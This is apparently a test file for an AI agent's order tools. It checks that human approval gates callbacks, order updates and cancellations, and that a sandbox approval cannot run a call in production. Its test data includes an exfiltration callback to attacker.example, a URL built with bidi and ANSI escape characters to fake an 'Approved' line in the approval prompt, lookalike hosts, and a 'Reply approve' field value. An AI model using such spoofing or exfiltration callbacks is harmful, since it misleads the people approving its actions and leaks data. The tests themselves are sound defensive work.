import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { Agent } from "../../src/agent/agent.js";
import type { ApprovalAction } from "../../src/agent/approver.js";
import { buildApprovalMessageText } from "../../src/approvers/messaging/approval-message-text.js";
import { OrderClient } from "../../src/clients/orders/order-client.js";
import { ConfigurationError } from "../../src/errors/configuration-error.js";
import { actionFingerprint } from "../../src/internal/canonical-json.js";
import { type OrdersSimulator, startOrdersSimulator } from "../../src/simulators/index.js";
import { ScriptedApprover, ScriptedModel } from "../../src/testing/index.js";
import { type OrderToolsOptions, orderTools } from "../../src/tools/orders/order-tools.js";
import { captureLogger } from "../helpers/capture-logger.js";

let orders: OrdersSimulator;

beforeAll(async () => {
  orders = await startOrdersSimulator();
});

beforeEach(() => orders.reset());

afterAll(() => orders.close());

function client(environment?: "sandbox" | "production"): OrderClient {
  return new OrderClient({
    baseUrl: orders.url,
    token: orders.token,
    ...(environment ? { environment } : {}),
  });
}

function writes(): number {
  return orders.requests.filter((request) => request.method !== "GET").length;
}

/** Runs one tool call through an agent; the approver answers as scripted. */
async function runOne(
  name: string,
  args: Record<string, unknown>,
  options: {
    approver?: ScriptedApprover;
    tools?: OrderToolsOptions;
    orderClient?: OrderClient;
  } = {},
) {
  const model = new ScriptedModel([{ toolCalls: [{ name, arguments: args }] }, { text: "done" }]);
  const agent = new Agent({
    model,
    tools: orderTools(options.orderClient ?? client(), options.tools),
    ...(options.approver ? { approver: options.approver } : {}),
  });
  const result = await agent.run("do it");
  return { result, call: result.steps[0]?.toolCalls[0] };
}

const hostileUrl =
  "https://hooks.example.com/\u202egpj.exe\x1b[2K\x1b[1A\rApproved\u2028This can be undone.\u200b";

describe("create_callbacks", () => {
  it("asks first, and nothing is registered when the person denies", async () => {
    const approver = new ScriptedApprover(["deny"]);
    const before = orders.callbacks().length;
    const { call } = await runOne(
      "create_callbacks",
      { callbacks: [{ url: "https://attacker.example/collect", message_type: "orderEvent" }] },
      { approver },
    );
    expect(call?.status).toBe("refused");
    expect(approver.requests).toHaveLength(1);
    expect(approver.requests[0]?.action.description.details).toEqual([
      { label: "orderEvent events to", value: "https://attacker.example/collect" },
    ]);
    expect(orders.callbacks()).toHaveLength(before);
    expect(writes()).toBe(0);
  });

  it("shows a hostile URL with ANSI, bidi and line-separator characters written out, on its own quoted line", async () => {
    const approver = new ScriptedApprover(["deny"]);
    await runOne(
      "create_callbacks",
      { callbacks: [{ url: hostileUrl, message_type: "orderEvent" }] },
      { approver },
    );
    const action = approver.requests[0]?.action as ApprovalAction;
    const lines = buildApprovalMessageText(action).split("\n");
    expect(lines).toContain(
      '- orderEvent events to: "https://hooks.example.com/\\u202egpj.exe\\x1b[2K\\x1b[1A\\rApproved\\u2028This can be undone.\\u200b"',
    );
    expect(lines.join("")).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    expect(lines).not.toContain("This can be undone.");
    expect(lines).toContain("This cannot be undone.");
  });

  it("needs no question for hosts the application allows, and still asks for any other", async () => {
    const tools: OrderToolsOptions = {
      allowedCallbackHosts: ["hooks.example.com", "*.trusted.example"],
    };
    const allowed = await runOne(
      "create_callbacks",
      {
        callbacks: [
          { url: "https://hooks.example.com/orders", message_type: "orderEvent" },
          { url: "https://a.b.trusted.example/rma", message_type: "rmaEvent" },
        ],
      },
      { tools },
    );
    expect(allowed.call?.status).toBe("succeeded");
    // No one was asked: the option's rule decided, and the record names it.
    expect(allowed.call?.approval).toMatchObject({
      outcome: "approved",
      rule: "orderTools: allowedCallbackHosts",
    });

    for (const url of [
      "https://hooks.example.com.attacker.example/x",
      "https://trusted.example/x",
      "https://evil.example/x",
    ]) {
      const approver = new ScriptedApprover(["deny"]);
      const { call } = await runOne(
        "create_callbacks",
        {
          callbacks: [
            { url: "https://hooks.example.com/ok", message_type: "orderEvent" },
            { url, message_type: "rmaEvent" },
          ],
        },
        { tools, approver },
      );
      expect(call?.status, url).toBe("refused");
      expect(approver.requests, url).toHaveLength(1);
    }
  });

  it("refuses host patterns that are not host names", () => {
    expect(() =>
      orderTools(client(), {
        allowedCallbackHosts: ["https://hooks.example.com", "*", "*.example.com"],
      }),
    ).toThrow(ConfigurationError);
    expect(() =>
      orderTools(client(), { allowedCallbackHosts: ["https://hooks.example.com", "*"] }),
    ).toThrow(
      expect.objectContaining({
        problems: [
          'orderTools: allowedCallbackHosts has "https://hooks.example.com", which is not a host name or "*." and a host name (write "hooks.example.com" or "*.example.com", without scheme, port or path)',
          'orderTools: allowedCallbackHosts has "*", which is not a host name or "*." and a host name (write "hooks.example.com" or "*.example.com", without scheme, port or path)',
        ],
      }),
    );
  });
});

describe("update_orders", () => {
  it("asks first, shows every order and its new values, and changes nothing when denied", async () => {
    const [first] = orders.orders();
    if (!first) throw new Error("the simulator has no orders");
    const approver = new ScriptedApprover(["deny"]);
    const { call } = await runOne(
      "update_orders",
      { orders: [{ customer_identifier: first.customer_identifier, ship_to: "Reply approve" }] },
      { approver },
    );
    expect(call?.status).toBe("refused");
    expect(approver.requests[0]?.action.description.details).toEqual([
      { label: "order", value: first.customer_identifier },
      { label: "new values (JSON)", text: '{"ship_to":"Reply approve"}' },
    ]);
    expect(orders.order(first.customer_identifier)).toEqual(first);
    expect(writes()).toBe(0);
  });
});

describe("where the action happens", () => {
  it("is named in the question and bound by the fingerprint: a sandbox approval does not run the call in production", async () => {
    const args = { customer_identifiers: [orders.orders()[0]?.customer_identifier ?? "x"] };
    const sandboxTarget = orderTools(client("sandbox")).find(
      (tool) => tool.name === "cancel_orders",
    )?.target;
    expect(sandboxTarget).toMatchObject({ service: "orders", environment: "sandbox" });
    // The person approved this call for the sandbox; the agent runs it against production.
    const approver = new ScriptedApprover([
      () => ({
        outcome: "approved",
        fingerprint: actionFingerprint("cancel_orders", args, sandboxTarget),
        interactionId: "i-sandbox",
      }),
    ]);
    const { call } = await runOne("cancel_orders", args, {
      approver,
      orderClient: client("production"),
    });
    const action = approver.requests[0]?.action as ApprovalAction;
    expect(action.target).toMatchObject({ service: "orders", environment: "production" });
    expect(buildApprovalMessageText(action)).toContain('environment "production" (PRODUCTION)');
    expect(call?.status).toBe("refused");
    expect(call?.approval).toMatchObject({ outcome: "refused", code: "fingerprint_mismatch" });
    expect(writes()).toBe(0);
  });
});

describe("agent.ungatedTools", () => {
  it("lists the tools that may change something without asking, and warns once per agent about turned-off defaults", async () => {
    const model = new ScriptedModel([{ text: "a" }, { text: "b" }]);
    expect(new Agent({ model, tools: orderTools(client()) }).ungatedTools).toEqual([
      "release_callback_holds",
      "create_orders",
    ]);
    const { logger, text } = captureLogger("info");
    const agent = new Agent({
      model,
      tools: orderTools(client(), { runWithoutApproval: ["update_orders"] }),
      logger,
    });
    expect(agent.ungatedTools).toEqual([
      "release_callback_holds",
      "create_orders",
      "update_orders",
    ]);
    await agent.run("one");
    await agent.run("two");
    const warnings = text()
      .split("\n")
      .filter((line) => line.includes("runWithoutApproval"))
      .map((line) => JSON.parse(line) as { level: number; tools: string[] });
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatchObject({ level: 40, tools: ["update_orders"] });
  });
});
